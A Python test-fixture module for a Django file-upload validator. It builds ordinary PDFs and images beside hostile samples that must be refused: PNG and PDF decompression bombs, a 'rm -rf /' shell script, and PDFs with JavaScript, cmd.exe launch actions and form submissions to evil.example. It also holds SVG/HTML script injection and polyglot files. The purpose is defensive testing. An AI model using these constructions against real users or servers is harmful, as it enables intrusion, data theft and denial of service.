"""Files as strangers send them: good ones, and every bad one beside it. All made here."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def upload(data: bytes, name: str = "scan.pdf") -> SimpleUploadedFile:
    """The name and type a browser declares are never to be believed."""
    file = SimpleUploadedFile("x", data, content_type="application/pdf")
    file._name = name  # past Django's own cleaning: what a hostile client would get through
    return file


# --- good ones ----------------------------------------------------------------------------------
def picture(kind: str = "PNG", size: tuple[int, int] = (60, 40), **more: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, kind, **more)
    return out.getvalue()


def pdf(pages: int = 1, change: Callable[[PdfWriter], None] | None = None) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        page = writer.add_blank_page(width=200, height=300)
        drawing = DecodedStreamObject()
        drawing.set_data(b"0 0 1 rg 20 20 100 100 re f")
        page[NameObject("/Contents")] = writer._add_object(drawing)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def fax(pages: int = 3) -> bytes:
    frames = [Image.new("1", (864, 550), 1) for _ in range(pages)]
    out = io.BytesIO()
    frames[0].save(
        out, "TIFF", save_all=True, append_images=frames[1:], compression="group4", dpi=(204, 98)
    )
    return out.getvalue()


def photo() -> bytes:
    """With a camera's notes: which one, where, and that it was held sideways."""
    exif = Image.Exif()
    exif[0x0110] = "SECRETCAM"
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    return picture("JPEG", exif=exif)


GOOD: dict[str, Callable[[], bytes]] = {
    "pdf": pdf, "many pages": lambda: pdf(12), "jpeg": lambda: picture("JPEG"), "png": picture,
    "photo": photo, "fax": fax, "grey": lambda: picture("PNG"),
}  # fmt: skip


# --- PDFs that act ------------------------------------------------------------------------------
def action(**parts: Any) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in parts.items()})


def opens_with(**parts: Any) -> bytes:
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = action(**parts)

    return pdf(change=change)


def annotated(**parts: Any) -> bytes:
    def change(writer: PdfWriter) -> None:
        note = action(
            Type=NameObject("/Annot"),
            Rect=ArrayObject(FloatObject(x) for x in (10, 10, 50, 50)),
            **parts,
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])

    return pdf(change=change)


def rooted(name: str, value: Any) -> bytes:
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject(name)] = value

    return pdf(change=change)


def hidden_script() -> bytes:
    """In a page's own additional actions, compressed into an object stream's neighbour."""

    def change(writer: PdfWriter) -> None:
        js = action(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))
        writer.pages[0][NameObject("/AA")] = action(O=writer._add_object(js))

    return pdf(change=change)


def encrypted() -> bytes:
    return pdf(change=lambda writer: writer.encrypt("", "owner", algorithm="RC4-128"))


def external_stream() -> bytes:
    def change(writer: PdfWriter) -> None:
        stream = DecodedStreamObject()
        stream.set_data(b"")
        stream[NameObject("/F")] = TextStringObject("//evil.example/share")
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)

    return pdf(change=change)


def form(*, drawn: bool) -> bytes:
    """A filled-in entry: with its look drawn, or left to each reader to draw."""

    def change(writer: PdfWriter) -> None:
        parts: dict[str, Any] = {
            "Type": NameObject("/Annot"), "Subtype": NameObject("/Widget"),
            "FT": NameObject("/Tx"), "T": TextStringObject("pain"), "V": TextStringObject("7"),
            "Rect": ArrayObject(FloatObject(x) for x in (20, 200, 80, 240)), "F": NumberObject(4),
        }  # fmt: skip
        if drawn:
            look = DecodedStreamObject()
            look.set_data(b"1 0 0 rg 0 0 60 40 re f")
            look.update(
                {
                    NameObject("/Type"): NameObject("/XObject"),
                    NameObject("/Subtype"): NameObject("/Form"),
                    NameObject("/BBox"): ArrayObject(FloatObject(x) for x in (0, 0, 60, 40)),
                }
            )
            parts["AP"] = action(N=writer._add_object(look))
        entry = writer._add_object(action(**parts))
        writer.pages[0][NameObject("/Annots")] = ArrayObject([entry])
        writer.root_object[NameObject("/AcroForm")] = action(Fields=ArrayObject([entry]))

    return pdf(change=change)


# --- bombs and broken ones ----------------------------------------------------------------------
def png_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """Some 10 kB that claim 3.6 billion pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = zlib.compress(b"\0" * 10_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def pdf_bomb() -> bytes:
    """An object stream that unpacks into 200 MB, twice packed."""
    packed = zlib.compress(zlib.compress(b"0" * 200_000_000, 1), 9)
    body = (
        b"%PDF-1.5\n1 0 obj <</Type/ObjStm/N 1/First 5/Filter[/FlateDecode/FlateDecode]/Length "
        + str(len(packed)).encode()
        + b">> stream\n"
        + packed
        + b"\nendstream endobj\n"
    )
    return body + b"trailer <</Root 2 0 R>>\nstartxref\n0\n%%EOF"


def looped_pages() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n9\n%%EOF"
    )


def zipped(name: str = "word/document.xml", body: bytes = b"<w/>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, body)
    return out.getvalue()


def _js(code: str) -> dict[str, Any]:
    return {"S": NameObject("/JavaScript"), "JS": TextStringObject(code)}


# name → (the bytes, a word of the sentence it is refused with)
BAD: dict[str, tuple[Callable[[], bytes], str]] = {
    "svg": (lambda: b"<svg xmlns='x' onload='alert(1)'/>", "none of them"),
    "html": (lambda: b"<!doctype html><script>alert(1)</script>", "none of them"),
    "html before a pdf": (lambda: b"<script>x()</script>\n" + pdf(), "none of them"),
    "text": (lambda: b"hello", "none of them"),
    "eicar by itself": (lambda: EICAR, "none of them"),
    "zip": (zipped, "ZIP"),
    "docx": (lambda: zipped("[Content_Types].xml"), "Office"),
    "zip before a pdf": (lambda: zipped() + pdf(), "ZIP"),
    "old office": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "Office"),
    "gif with script": (lambda: b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", "JPEG, PNG"),
    "bmp": (lambda: picture("BMP"), "JPEG, PNG"),
    "webp": (lambda: b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 30, "JPEG, PNG"),
    "heic": (lambda: b"\0\0\0\x18ftypheic" + b"\0" * 30, "HEIC"),
    "exe": (lambda: b"MZ\x90\0" + b"\0" * 200, "program"),
    "elf": (lambda: b"\x7fELF" + b"\0" * 200, "program"),
    "shell": (lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    "pdf that is only a head": (lambda: b"%PDF-1.7\n", "damaged"),
    "pdf cut off": (lambda: pdf()[:120], "damaged"),
    "pdf of noise": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, "damaged"),
    "pdf without pages": (lambda: pdf(0), "damaged"),
    "pdf whose pages loop": (looped_pages, "damaged"),
    "zip as pdf": (lambda: b"%PDF-1.4\n" + zipped(), "damaged"),
    "pdf with 201 pages": (lambda: pdf(201), "200 pages"),
    "pdf, encrypted": (encrypted, "locked"),
    "pdf bomb": (pdf_bomb, ""),
    "pdf, script at opening": (lambda: opens_with(**_js("app.alert(1)")), "JavaScript"),
    "pdf, script by name": (
        lambda: rooted("/Names", action(JavaScript=action(Names=ArrayObject(
            [TextStringObject("x"), action(**_js("app.alert(1)"))])))), "JavaScript"),
    "pdf, script of a page": (hidden_script, ""),
    "pdf, script behind a button": (
        lambda: annotated(Subtype=NameObject("/Widget"), A=action(**_js("x()"))), "JavaScript"),
    "pdf, launch": (
        lambda: opens_with(S=NameObject("/Launch"), F=TextStringObject("cmd.exe")), "program"),
    "pdf, launch behind a link": (
        lambda: annotated(Subtype=NameObject("/Link"), A=action(
            S=NameObject("/Launch"), F=TextStringObject("cmd.exe"))), "program"),
    "pdf, another file": (
        lambda: annotated(Subtype=NameObject("/Link"), A=action(
            S=NameObject("/GoToR"), F=TextStringObject("//evil.example/x"))), "program"),
    "pdf, address at opening": (
        lambda: opens_with(S=NameObject("/URI"), URI=TextStringObject("http://evil.example")),
        "by itself"),
    "pdf, sends a form": (
        lambda: annotated(Subtype=NameObject("/Widget"), A=action(
            S=NameObject("/SubmitForm"), F=TextStringObject("http://evil.example"))), "form"),
    "pdf, takes data in": (
        lambda: opens_with(S=NameObject("/ImportData"), F=TextStringObject("x.fdf")), "form"),
    "pdf, xfa": (lambda: rooted("/AcroForm", action(
        XFA=TextStringObject("<xdp/>"), Fields=ArrayObject())), "form"),
    "pdf, form not drawn": (lambda: form(drawn=False), "form"),
    "pdf, attachment": (
        lambda: pdf(change=lambda w: w.add_attachment("x.exe", b"MZ") and None), "other files"),
    "pdf, attachment on a page": (
        lambda: annotated(Subtype=NameObject("/FileAttachment")), "other files"),
    "pdf, film": (lambda: annotated(Subtype=NameObject("/RichMedia")), "film"),
    "pdf, sound": (lambda: annotated(Subtype=NameObject("/Screen"), A=action(
        S=NameObject("/Rendition"))), "film"),
    "pdf, 3-D": (lambda: annotated(Subtype=NameObject("/3D")), "film"),
    "pdf, bytes of another file": (external_stream, "another file"),
    "png bomb": (png_bomb, "million pixels"),
    "png just too large": (lambda: png_bomb(8000, 5001), "million pixels"),
    "png cut off": (lambda: picture(size=(400, 400))[:300], "damaged"),
    "png of nothing": (lambda: b"\x89PNG\r\n\x1a\n", "damaged"),
    "jpeg cut off": (lambda: picture("JPEG", size=(400, 400))[:200], "damaged"),
    "jpeg of noise": (lambda: b"\xff\xd8\xff" + bytes(range(256)) * 9, "damaged"),
    "tiff of noise": (lambda: b"II*\x00" + b"\xff" * 400, "damaged"),
}  # fmt: skip

# name → bytes: kept, but nothing is left of what was hung on
NEUTRALISED: dict[str, Callable[[], bytes]] = {
    "pdf with a zip behind": lambda: pdf() + zipped("HUNG-ON.txt", b"HUNG-ON"),
    "pdf with html behind": lambda: pdf() + b"<script>HUNG-ON</script>",
    "png with html behind": lambda: picture() + b"<script>HUNG-ON</script>",
    "jpeg with php inside": lambda: picture("JPEG", comment=b"<?php HUNG-ON ?>"),
    "jpeg with a zip behind": lambda: picture("JPEG") + zipped("HUNG-ON", b"HUNG-ON"),
    "pdf with a link": lambda: annotated(
        Subtype=NameObject("/Link"),
        A=action(S=NameObject("/URI"), URI=TextStringObject("http://HUNG-ON.example")),
    ),
    "pdf that names its author": lambda: pdf(
        change=lambda writer: writer.add_metadata({"/Author": "HUNG-ON"})
    ),
    "pdf opening on page 1": lambda: pdf(
        change=lambda writer: writer.root_object.update(
            {
                NameObject("/OpenAction"): ArrayObject(
                    [writer.pages[0].indirect_reference, NameObject("/Fit")]
                )
            }
        )
    ),
}
